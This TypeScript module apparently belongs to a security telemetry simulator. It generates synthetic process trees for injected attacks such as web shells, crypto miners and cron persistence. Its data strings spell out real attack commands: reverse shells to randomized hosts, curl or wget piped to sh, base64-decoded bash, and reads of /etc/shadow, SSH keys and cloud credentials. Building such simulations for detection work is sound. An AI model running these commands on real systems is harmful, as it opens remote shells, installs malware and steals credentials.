// Attacks injected into the simulated weeks, each as the processes it really starts. The entry point
// depends on the host: a web shell runs under PHP on the web server, SQL injection reaches a shell
// through PostgreSQL's COPY ... FROM PROGRAM, a poisoned npm package runs from npm on a developer's
// machine and in CI. Commands are the ones incident reports keep showing (GTFOBins, Atomic Red Team).
import type { Prng } from '../models/prng.ts';
import type { Role } from './host-roles.ts';

export const ATTACK_KINDS = ['web_shell', 'reverse_shell', 'crypto_miner', 'download_exec', 'cron_persistence', 'credential_access'] as const;
export type AttackKind = (typeof ATTACK_KINDS)[number];

export interface AttackStep {
  readonly parent: readonly [string, string];
  readonly child: readonly [string, string];
  readonly user: string;
  readonly cmd: string;
  /** Seconds after the attack starts. */
  readonly at: number;
  readonly lifetime: number;
  readonly cpu: number;
  readonly memMb: number;
  readonly fanOut: number;
}

const SH: [string, string] = ['sh', '/usr/bin/dash'];
const BASH: [string, string] = ['bash', '/usr/bin/bash'];

/** The process an attacker first controls on each kind of host, and the user it runs as. */
const ENTRY: Record<Role, { parent: [string, string]; user: string }> = {
  web: { parent: ['php-fpm', '/usr/sbin/php-fpm8.2'], user: 'www-data' },
  db: { parent: ['postgres', '/usr/lib/postgresql/15/bin/postgres'], user: 'postgres' },
  dev: { parent: ['npm', '/usr/bin/npm'], user: 'alice' },
  ci: { parent: ['npm', '/usr/bin/npm'], user: 'gitlab-runner' },
};

const ip = (r: Prng) => `${r.pick(['203.0.113', '198.51.100', '45.9.148', '185.220.101'])}.${1 + r.int(254)}`;
const b64 = (r: Prng, n: number) => Array.from({ length: n }, () => 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'[r.int(64)]).join('');

function s(parent: readonly [string, string], child: readonly [string, string], user: string, cmd: string, at: number,
  extra: Partial<Pick<AttackStep, 'lifetime' | 'cpu' | 'memMb' | 'fanOut'>> = {}): AttackStep {
  return { parent, child, user, cmd, at, lifetime: extra.lifetime ?? 0.2, cpu: extra.cpu ?? 1, memMb: extra.memMb ?? 3, fanOut: extra.fanOut ?? 0 };
}

export function attackSteps(kind: AttackKind, role: Role, r: Prng): AttackStep[] {
  const { parent, user } = ENTRY[role];
  const host = ip(r);
  switch (kind) {
    case 'web_shell':
      // The injected code runs a shell for each command the operator types.
      return [
        s(parent, SH, user, `sh -c id;uname -a;pwd`, 0),
        s(SH, ['id', '/usr/bin/id'], user, 'id', 0.01),
        s(SH, ['uname', '/usr/bin/uname'], user, 'uname -a', 0.02),
        s(parent, SH, user, 'sh -c cat /etc/passwd; ls -la /var/www; whoami', 40),
        s(SH, ['cat', '/usr/bin/cat'], user, 'cat /etc/passwd', 40.01),
        s(SH, ['whoami', '/usr/bin/whoami'], user, 'whoami', 40.02),
      ];
    case 'reverse_shell': {
      const variant = r.int(3);
      const cmd = variant === 0 ? `bash -c bash -i >& /dev/tcp/${host}/4444 0>&1`
        : variant === 1 ? `python3 -c import socket,subprocess,os;s=socket.socket();s.connect(("${host}",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])`
          : `nc -e /bin/sh ${host} 9001`;
      const child: [string, string] = variant === 0 ? BASH : variant === 1 ? ['python3', '/usr/bin/python3.11'] : ['nc', '/usr/bin/nc.traditional'];
      return [
        s(parent, SH, user, `sh -c ${cmd}`, 0),
        s(SH, child, user, cmd, 0.01, { lifetime: 1800, fanOut: 1, memMb: variant === 1 ? 12 : 4 }),
        s(child, SH, user, '/bin/sh -i', 0.5, { lifetime: 1800 }),
      ];
    }
    case 'crypto_miner': {
      const path = r.pick(['/tmp/.X11-unix/.x/kswapd0', '/dev/shm/.cache/xmrig', '/var/tmp/.sysupdate']);
      const name = path.split('/').pop()!;
      return [
        s(parent, SH, user, `sh -c wget -q http://${host}/xm -O ${path}; chmod +x ${path}; ${path} -o stratum+tcp://${host}:3333 -u 4${b64(r, 40)} -k --donate-level 1 -B`, 0),
        s(SH, ['wget', '/usr/bin/wget'], user, `wget -q http://${host}/xm -O ${path}`, 0.01, { fanOut: 1 }),
        s(SH, ['chmod', '/usr/bin/chmod'], user, `chmod +x ${path}`, 3),
        s(SH, [name, path], user, `${path} -o stratum+tcp://${host}:3333 -u 4${b64(r, 40)} -k --donate-level 1 -B`, 3.1, { lifetime: 86400, cpu: 380, memMb: 2300, fanOut: 2 }),
      ];
    }
    case 'download_exec': {
      const u = `http://${host}/${b64(r, 6).replace(/[+/]/g, 'x')}.sh`;
      return r.int(2) === 0
        ? [
          s(parent, SH, user, `sh -c curl -fsSL ${u} | sh`, 0),
          s(SH, ['curl', '/usr/bin/curl'], user, `curl -fsSL ${u}`, 0.01, { fanOut: 1 }),
          s(SH, SH, user, 'sh', 0.02, { lifetime: 20 }),
        ]
        : [
          s(parent, SH, user, `sh -c echo ${b64(r, 120)} | base64 -d | bash`, 0),
          s(SH, ['base64', '/usr/bin/base64'], user, 'base64 -d', 0.01),
          s(SH, BASH, user, 'bash', 0.02, { lifetime: 20 }),
          s(BASH, ['wget', '/usr/bin/wget'], user, `wget -qO /tmp/.u ${u}`, 1, { fanOut: 1 }),
        ];
    }
    case 'cron_persistence':
      return [
        s(parent, SH, user, `sh -c (crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://${host}/p.sh | sh") | crontab -`, 0),
        s(SH, ['crontab', '/usr/bin/crontab'], user, 'crontab -l', 0.01),
        s(SH, ['crontab', '/usr/bin/crontab'], user, 'crontab -', 0.02),
        // The job it installed, running five minutes later under cron.
        s(['cron', '/usr/sbin/cron'], SH, user, `/bin/sh -c curl -fsSL http://${host}/p.sh | sh`, 300),
        s(SH, ['curl', '/usr/bin/curl'], user, `curl -fsSL http://${host}/p.sh`, 300.01, { fanOut: 1 }),
      ];
    case 'credential_access':
      return [
        s(parent, SH, user, 'sh -c cat /etc/shadow; find / -name id_rsa -o -name "*.pem" 2>/dev/null; cat ~/.aws/credentials ~/.docker/config.json', 0),
        s(SH, ['cat', '/usr/bin/cat'], user, 'cat /etc/shadow', 0.01),
        s(SH, ['find', '/usr/bin/find'], user, 'find / -name id_rsa -o -name *.pem', 0.02, { lifetime: 40, cpu: 30 }),
        s(SH, ['cat', '/usr/bin/cat'], user, 'cat /home/admin/.aws/credentials /home/admin/.docker/config.json', 45),
        s(SH, ['python3', '/usr/bin/python3.11'], user, `python3 /tmp/.l/laZagne.py all -oJ -output /tmp/.l`, 50, { lifetime: 20, cpu: 60, memMb: 40 }),
      ];
  }
}
